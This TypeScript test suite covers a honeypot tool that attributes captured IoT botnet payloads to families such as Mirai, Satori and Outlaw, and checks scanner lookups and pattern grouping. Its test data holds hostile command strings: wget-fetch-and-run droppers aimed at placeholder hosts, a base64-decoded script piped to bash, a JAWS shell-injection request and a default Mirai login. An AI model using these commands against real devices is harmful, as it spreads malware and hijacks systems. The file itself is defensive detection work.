import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { pathToFileURL } from 'node:url'
import fc from 'fast-check'
import { type Evidence, payloadKinds } from './assessment.ts'
import { loadHoneypotKnowledge } from './knowledge.ts'
import { looksRandom } from './pattern.ts'

const knowledge = loadHoneypotKnowledge()
const told = (...payloads: readonly (readonly [(typeof payloadKinds)[number], string])[]): string => {
  const verdict = knowledge.verdict(payloads.flatMap(([kind, text]) => knowledge.assess(kind, text).evidence))
  return verdict === undefined ? '-' : `${verdict.family} ${verdict.confidence}`
}

test('a token alone is weak, more sorts of reasons make it surer', () => {
  assert.equal(told(['command', '/bin/busybox SATORI']), 'satori 40')
  assert.equal(
    told(
      ['command', '/bin/busybox SATORI'],
      ['command', 'wget http://192.0.2.1/bins/satori.arm7; sh satori.arm7'],
    ),
    'satori 76',
  )
  assert.equal(told(['command', '/bin/busybox satori'], ['command', '/bin/busybox SATORI']), 'satori 40')
})

test('an unknown token tells nothing, whatever its form', () => {
  for (const token of ['GHQKQ', 'UUTBP', '2FxRRSt9', 'wget', 'cat', 'MIRAIX', ''])
    assert.equal(told(['command', `/bin/busybox ${token}`]), '-', token)
  fc.assert(
    fc.property(fc.stringMatching(/^[A-Z]{5}$/), (token) => {
      const known = knowledge.families.some(({ rules }) =>
        rules.some(({ tokens }) => tokens?.some((own) => own.toUpperCase() === token) === true),
      )
      assert.equal(told(['command', `/bin/busybox ${token}`]) === '-', !known)
    }),
  )
})

test('weak reasons of several sorts together make the parent, one sort does not', () => {
  const probe = ['command', '/bin/busybox cat /proc/mounts; /bin/busybox QWERT'] as const
  assert.equal(told(probe), '-')
  assert.equal(told(probe, probe, ['command', '/bin/busybox wget; /bin/busybox tftp']), '-')
  assert.equal(told(['credential', 'root\0xc3511']), '-')
  assert.equal(told(probe, ['credential', 'root\0xc3511']), 'mirai 51')
  assert.equal(told(probe, ['url', 'http://192.0.2.1/b/q.mpsl']), 'mirai 51')
})

test('a variant goes before its parent, however much speaks for that', () => {
  assert.equal(
    told(
      ['command', '/bin/busybox SORA'],
      ['command', '/bin/busybox cat /proc/mounts; /bin/busybox SORA'],
      ['url', 'http://192.0.2.1/mirai.mpsl'],
      ['credential', 'root\0xc3511'],
    ),
    'sora 40',
  )
})

test('verdicts: bounded, in no order of the evidence, and never below the threshold', () => {
  const rules = knowledge.families.flatMap(({ id, rules: own }) =>
    own.map(({ id: rule, sort, weight }): Evidence => ({ family: id, sort, weight, matched: 'x', rule })),
  )
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...rules), { maxLength: 12 }), fc.nat(), (evidence, seed) => {
      const verdict = knowledge.verdict(evidence)
      const turned = evidence.toSorted((a, b) => (a.rule + String(seed)).localeCompare(b.rule)).reverse()
      const { family, confidence } = knowledge.verdict(turned) ?? {}
      assert.equal(verdict?.family, family)
      assert.equal(verdict?.confidence, confidence)
      const doubled = knowledge.verdict([...evidence, ...evidence])
      assert.equal(doubled?.confidence, verdict?.confidence)
      if (verdict === undefined) return
      assert.ok(verdict.confidence >= Math.round(knowledge.threshold * 100) && verdict.confidence <= 100)
      assert.equal(new Set(verdict.evidence.map(({ sort }) => sort)).size, verdict.evidence.length)
      const left = verdict.evidence.reduce((rest, { weight }) => rest * (1 - weight), 1)
      assert.equal(verdict.confidence, Math.round((1 - left) * 100))
      assert.ok(knowledge.families.every(({ id, parent }) => parent !== verdict.family || id !== family))
    }),
  )
  assert.equal(knowledge.verdict([]), undefined)
})

test('our YARA rules see what is echoed byte by byte', () => {
  const elf = '\x7fELF\x01\x01\x01\0/dev/misc/watchdog\0TSource Engine Query\0'
  const echoed = `echo -ne "${[...Buffer.from(elf, 'latin1')].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}" > .x`
  const { evidence } = knowledge.assess('command', echoed)
  assert.deepEqual(
    evidence.map(({ family, sort, rule }) => `${family} ${sort} ${rule}`),
    ['mirai rule mirai_binary'],
  )
  const { evidence: whole } = knowledge.assess(
    'command',
    `echo ${Buffer.from(elf, 'latin1').toString('base64')} | base64 -d > .x`,
  )
  assert.deepEqual(
    whole.map(({ family, sort, rule }) => `${family} ${sort} ${rule}`),
    ['mirai rule mirai_binary'],
  )
  const script = '#!/bin/bash\nmv /var/tmp/dota3.tar.gz x; cd /tmp/.X19-unix/.rsync/c; ./c/tsm -t 150'
  assert.equal(
    told(['command', `echo "${Buffer.from(script).toString('base64')}" | base64 --decode | bash`]),
    'outlaw 93',
  )
})

test('research scanners by address and, as a claim, by client', () => {
  assert.equal(knowledge.researcher('162.142.125.17'), 'Censys')
  assert.equal(knowledge.researcher('2602:80d:1000:b0cc:e::5'), 'Censys')
  assert.equal(knowledge.researcher('184.105.139.127'), 'The Shadowserver Foundation')
  assert.equal(knowledge.researcher('184.105.139.128'), undefined)
  assert.equal(knowledge.researcher('not an address'), undefined)
  assert.equal(
    knowledge.claimedResearcher('Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'),
    'Censys',
  )
  assert.equal(knowledge.claimedResearcher('curl/8.0'), undefined)
})

test('the operator’s list replaces a project by its id, adds others, and changes the version', () => {
  const folder = mkdtempSync(join(tmpdir(), 'scanners-'))
  try {
    const path = join(folder, 'scanners.json')
    const scanner = { url: 'https://scan.example/', source: 'own', asOf: '2026-11-22', clients: [] }
    const file = {
      source: 'own',
      asOf: '2026-11-22',
      notes: 'own',
      scanners: [
        { ...scanner, id: 'censys', name: 'Censys', prefixes: ['198.51.100.0/24'] },
        { ...scanner, id: 'ours', name: 'Ours', prefixes: ['198.51.100.128/25'] },
      ],
    }
    writeFileSync(path, JSON.stringify(file))
    const changed = loadHoneypotKnowledge({ scanners: pathToFileURL(path) })
    assert.equal(changed.researcher('162.142.125.17'), undefined)
    assert.equal(changed.researcher('198.51.100.1'), 'Censys')
    assert.equal(changed.researcher('198.51.100.200'), 'Ours')
    assert.equal(changed.researcher('184.105.139.127'), 'The Shadowserver Foundation')
    assert.notEqual(changed.version, knowledge.version)
    assert.notEqual(loadHoneypotKnowledge({ own: ['198.51.100.0/24'] }).version, knowledge.version)
    assert.equal(loadHoneypotKnowledge().version, knowledge.version)
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('payloads of one campaign have one pattern, others another', () => {
  const pattern = (text: string, kind: (typeof payloadKinds)[number] = 'command'): string =>
    knowledge.assess(kind, text).pattern
  const hajime = (address: string, port: number): string =>
    pattern(`rm .s; wget http://${address}:${port}/.i; chmod 777 .i; ./.i; exit`)
  assert.equal(hajime('198.51.100.1', 46_746), hajime('203.0.113.200', 1025))
  assert.notEqual(
    hajime('198.51.100.1', 46_746),
    pattern('rm .s; wget http://198.51.100.1:46746/.j; chmod 777 .j; ./.j'),
  )
  assert.equal(
    pattern('/bin/busybox wget http://198.51.100.1/a.mips; /bin/busybox QWERT'),
    pattern('/bin/busybox wget http://198.51.100.2/a.mips; /bin/busybox ZXCVB'),
  )
  const request = (host: string, address: string): string =>
    pattern(
      `GET /shell?cd+/tmp;wget+http://${address}/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${host.length}\r\nUser-Agent: Hello\r\n\r\n`,
      'request',
    )
  assert.equal(request('192.0.2.1:80', '198.51.100.7'), request('sensor.example', '198.51.100.8'))
  assert.equal(pattern('uname -a'), '')
  assert.equal(pattern('root\0admin', 'credential'), '')
  assert.equal(pattern('F'.repeat(64), 'hash'), 'f'.repeat(64))
  const long = (end: string): string =>
    pattern(`wget http://evil.example/a; ${'echo some words of a script; '.repeat(60)}${end}`)
  assert.notEqual(long('one'), long('two'))
  assert.ok(long('one').length <= 500)
})

test('which words look made up', () => {
  for (const word of [
    '0s234154y5dthge4',
    'a3f9c2e1b7d80a4c5e6f',
    'XkQ3vB9zTp',
    'qwrtzpsdfg',
    'GnGrHx8Kq2Zv1',
  ])
    assert.ok(looksRandom(word), word)
  for (const word of [
    'authorized',
    'DeviceUpgrade',
    'busybox',
    'x86',
    'mips64el',
    'NewStatusURL',
    'translation',
    'HISTFILE',
    'iptables',
    'webLanguage',
    'CVE20211234',
  ])
    assert.ok(!looksRandom(word), word)
})

test('whatever is sent: an answer within its bounds', () => {
  const wild = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }).map((text) => Buffer.from(text).toString('latin1')),
    fc
      .constantFrom('%', '\\x', '${', 'http://', 'base64 ', 'busybox ', '\0', '/../', ';wget ')
      .map((seed) => seed.repeat(200)),
  )
  fc.assert(
    fc.property(fc.constantFrom(...payloadKinds), fc.array(wild, { maxLength: 5 }), (kind, parts) => {
      const assessment = knowledge.assess(kind, parts.join(''))
      assert.ok(assessment.pattern.length <= 500)
      assert.ok(assessment.indicators.length <= 64)
      for (const { matched, weight } of assessment.evidence)
        assert.ok(matched.length <= 200 && weight > 0 && weight < 1)
      for (const { matched } of assessment.flaws) assert.ok(matched.length <= 200)
      assert.deepEqual(knowledge.assess(kind, parts.join('')), assessment)
    }),
  )
})

test('a long hostile text costs time in proportion to what is looked at', () => {
  for (const seed of [
    'a',
    '/',
    '%25',
    '\\x41',
    '${',
    '${a:-',
    'http://',
    'http://a.',
    'wget ',
    'busybox A',
    'tftp -g ',
    '1.1.',
    '+http://',
    'Host:',
    'QUJD',
    'base64 ',
    '1.2.3.4:',
    '&amp;',
    '\\',
    '://a:',
    '\n',
  ]) {
    for (const kind of ['command', 'request'] as const) {
      const text = `base64 -d ${seed.repeat(Math.ceil(10_000_000 / seed.length))}`
      const started = performance.now()
      const assessment = knowledge.assess(kind, text)
      assert.ok(performance.now() - started < 5000, `${kind} ${seed}: ${performance.now() - started} ms`)
      assert.ok(assessment.indicators.length <= 64)
    }
  }
})
